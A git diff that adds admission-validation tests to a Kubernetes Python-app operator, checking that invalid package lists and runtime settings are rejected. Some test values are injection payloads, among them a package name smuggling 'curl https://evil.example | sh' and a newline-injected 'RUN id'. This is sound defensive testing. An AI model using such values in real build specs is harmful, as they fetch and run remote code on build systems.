@@ -9,8 +9,13 @@ import dev.pythonapp.operator.testing.ControlPlane;
 import dev.pythonapp.operator.testing.ProjectCrds;
 import io.fabric8.kubernetes.client.KubernetesClient;
 import io.fabric8.kubernetes.client.KubernetesClientException;
+import io.fabric8.kubernetes.client.utils.Serialization;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.List;
 import java.util.function.Consumer;
+import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -79,6 +84,41 @@ class PythonAppAdmissionIT {
                     s.build.env =
                             List.of(new EnvVarSpec("PIP_INDEX_URL", "https://bob:hunter2@pypi.example.com/simple"));
                 }),
+                invalid("shell-in-package", "spec.build.packages", "each entry must be one package name", s -> {
+                    s.build = new BuildSpec();
+                    s.build.packages = List.of("gcc", "gcc; curl https://evil.example | sh");
+                }),
+                invalid("option-as-package", "spec.runtime.packages", "each entry must be one package name", s -> {
+                    s.runtime = new RuntimeSpec();
+                    s.runtime.packages = List.of("--nogpgcheck");
+                }),
+                invalid("newline-in-package", "spec.build.packages", "each entry must be one package name", s -> {
+                    s.build = new BuildSpec();
+                    s.build.packages = List.of("gcc\nRUN id");
+                }),
+                invalid("too-many-packages", "spec.build.packages", "must have at most 50 items", s -> {
+                    s.build = new BuildSpec();
+                    s.build.packages = IntStream.rangeClosed(0, SystemPackages.MAX_COUNT)
+                            .mapToObj(i -> "pkg" + i)
+                            .toList();
+                }),
+                invalid("long-package-name", "spec.runtime.packages[0]", "Too long", s -> {
+                    s.runtime = new RuntimeSpec();
+                    s.runtime.packages = List.of("p".repeat(SystemPackages.MAX_NAME_LENGTH + 1));
+                }),
+                invalid("compiler-in-runtime", "spec.runtime.packages", "must not install compilers", s -> {
+                    s.runtime = new RuntimeSpec();
+                    s.runtime.packages = List.of("httpd", "python3.12-devel");
+                }),
+                invalid(
+                        "runtime-image-and-variant",
+                        "spec.runtime",
+                        "set either runtime.image or runtime.variant",
+                        s -> {
+                            s.runtime = new RuntimeSpec();
+                            s.runtime.image = "registry.access.redhat.com/ubi9/python-312-minimal";
+                            s.runtime.variant = BuilderSpec.Variant.MINIMAL;
+                        }),
                 invalid("bad-os", "spec.builder.os", "Unsupported value", s -> s.builder = null));
     }
 
@@ -125,6 +165,37 @@ class PythonAppAdmissionIT {
                         .create());
         assertThat(e.getCode()).isEqualTo(422);
         assertThat(e.getMessage()).contains("at most 50 characters");
+    }
+
+    @Test
+    void acceptsRuntimeAndPackagesAsDocumented() {
+        PythonApp app = app(ns, "small-runtime", "3.12", s -> {
+            s.build = new BuildSpec();
+            s.build.packages = List.of("gcc", "gcc-c++", "python3.12-devel", "libpq-devel");
+            s.runtime = new RuntimeSpec();
+            s.runtime.variant = BuilderSpec.Variant.MINIMAL;
+            s.runtime.packages = List.of("httpd", "libpq", "libxml2");
+        });
+        PythonApp created =
+                client.resources(PythonApp.class).inNamespace(ns).resource(app).create();
+        assertThat(created.getSpec().runtime.packages).containsExactly("httpd", "libpq", "libxml2");
+        assertThat(created.getSpec().build.packages).contains("gcc-c++");
+    }
+
+    @Test
+    void acceptsEveryExample() throws IOException {
+        try (var files = Files.list(Path.of("examples"))) {
+            List<Path> examples =
+                    files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList();
+            assertThat(examples).isNotEmpty();
+            for (Path example : examples) {
+                PythonApp app = Serialization.unmarshal(Files.readString(example), PythonApp.class);
+                app.getMetadata().setNamespace(ns);
+                assertThat(client.resource(app).create().getSpec())
+                        .as(example.toString())
+                        .isNotNull();
+            }
+        }
     }
 
     @Test
